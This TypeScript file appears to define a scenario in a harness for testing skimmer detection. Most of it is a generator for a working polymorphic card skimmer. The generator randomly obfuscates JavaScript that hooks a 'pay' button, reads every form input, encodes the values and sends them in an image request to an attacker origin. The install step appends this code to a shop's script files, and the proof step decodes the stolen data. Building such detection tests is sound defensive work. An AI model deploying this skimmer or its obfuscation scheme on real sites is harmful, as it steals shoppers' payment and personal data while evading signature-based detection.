import { randomBytes, randomInt } from 'node:crypto';
import { holds, js, skimmer } from '../behaviour.ts';
import { hex, query } from '../site/arrivals.ts';

/** Names and numbers are drawn anew for every file and every load; the text of the code is never the same. */
function dressed(evil: string): string {
  const name = (): string => `_0x${randomBytes(4).toString('hex')}`;
  const [field, out, each, at] = [name(), name(), name(), name()];
  const shift = randomInt(3, 90);
  const cut = (text: string): string =>
    Array.from(text, (c) =>
      randomInt(2) === 0 ? `'\\x${c.charCodeAt(0).toString(16)}'` : JSON.stringify(c),
    ).join('+');
  return js`/*${randomBytes(randomInt(4, 40)).toString('base64')}*/(function(${field},${at}){if(!${field})return;${field}[${cut('addEventListener')}](${cut('click')},function(){if(window[${cut('_k')}])return;window[${cut('_k')}]=1;var ${out}='';
document[${cut('querySelectorAll')}](${cut('input')})[${cut('forEach')}](function(${each}){for(var i=0;i<${each}.value.length;i++)${out}+=('0'+((${each}.value.charCodeAt(i)+${at})&255).toString(16)).slice(-2);${out}+='00';});
new Image()[${cut('src')}]=${cut(`${evil}/`)}+${cut(`i${randomInt(1e6)}`)}+${cut('.gif?s=')}+${at}+${cut('&d=')}+${out};},true)})(document[${cut('getElementById')}](${cut('pay')}),${String(shift)});`;
}

export default skimmer({
  id: 'polymorphic-append',
  why: 'Appended to every script of the shop, each time in another shape (one sample: 2,246 files of one site in 90 obfuscations): signatures generalise to nothing.',
  covers: [
    'injection: first-party library',
    'hard: polymorphic append',
    'obfuscation: arrays',
    'reading: every input',
  ],
  base: 'direct',
  install: (site) => {
    for (const place of ['shop/assets/shop.js', 'shop/assets/payment.js'] as const)
      site.alter(place, (code) => `${code}\n;${dressed(site.origins.evil)}`);
  },
  proof: holds((arrived) => {
    const shifts = query(arrived, 's').map(Number);
    return query(arrived, 'd').map((text, i) =>
      Buffer.from(hex(text).map((byte) => byte - (shifts[i] ?? 0))).toString('latin1'),
    );
  }),
});
